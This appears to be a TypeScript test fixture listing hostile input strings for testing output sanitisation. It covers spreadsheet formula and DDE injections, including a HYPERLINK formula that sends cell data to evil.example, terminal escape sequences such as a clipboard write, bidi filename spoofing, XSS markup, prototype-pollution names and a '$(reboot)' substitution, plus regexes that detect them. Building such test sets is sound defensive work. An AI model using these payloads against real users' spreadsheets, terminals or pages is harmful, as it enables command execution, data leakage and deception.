const ESC = '\u{1b}';

/** Texts that would be a formula in a spreadsheet. */
const FORMULAS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "+1+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\u{ff1d}1+1',
  '\u{200b}=1+1',
  '\u{a0}=1+1',
  '"=1+1"',
  'x",=1+1',
  'x\n=1+1',
];

/** Texts that would move, colour, rename or write on a terminal. */
const TERMINALS = [
  `${ESC}[2J${ESC}[H`,
  `${ESC}[31mred${ESC}[0m`,
  `${ESC}]0;owned\u{7}`,
  `${ESC}]8;;https://evil.example${ESC}\\link${ESC}]8;;${ESC}\\`,
  `${ESC}]52;c;ZXZpbA==\u{7}`,
  `${ESC}P$q"p${ESC}\\`,
  'C1 \u{9b}31mred',
  'all well\u{d}all lost',
  'ab\u{8}\u{8}cd',
  'x\u{7f}\u{7f}y',
  'line\u{85}break',
  'a\u{2028}b\u{2029}c',
  'bell\u{7}',
  'tab\tand\u{b}feed\u{c}',
];

/** Texts that hide, or that turn round what is beside them. */
const INVISIBLE = [
  'a\u{202e}txt.exe',
  'a\u{202a}b\u{202b}c\u{202c}d\u{202d}e',
  '\u{2066}a\u{2067}b\u{2068}c\u{2069}',
  'x\u{200e}\u{200f}\u{61c}',
  'zero\u{200b}width\u{200c}joiner\u{200d}s',
  'x\u{feff}mark',
  'soft\u{ad}hyphen',
  'tag\u{e0041}\u{e0042}',
  'word\u{2060}joiner',
];

/** Texts that would be markup, or more cells, or a name that objects have already. */
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![p](https://evil.example/p.png)',
  '[go](javascript:alert(1))',
  '| a | b |',
  '\\| x \\\\| y',
  '`code` | `more',
  '# heading\n\n---',
  '__proto__',
  'constructor',
  '%s %d %n ${process.exit(9)} $(reboot)',
  '{"format":"x"}',
];

/** Hostile texts, all different. */
export const PAYLOADS: readonly string[] = [...FORMULAS, ...TERMINALS, ...INVISIBLE, ...MARKUP];

/** Characters that do something, or that nobody sees: none may reach a terminal. */
export const ACTIVE = /(?!\n)\p{Cc}|[\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;

/** The same for CSV, whose cells may keep a tab. */
export const ACTIVE_IN_CSV = /(?![\n\t])\p{Cc}|\p{Cs}/u;

/** A cell that a spreadsheet would work out. */
export const isFormula = (cell: string): boolean =>
  /^[\p{Z}\p{Default_Ignorable_Code_Point}]*[=+\-@\t\r\n\0＝＋－＠]/u.test(cell) &&
  !/^(?:-|[+-]?[\d,.]+%?)$/u.test(cell);
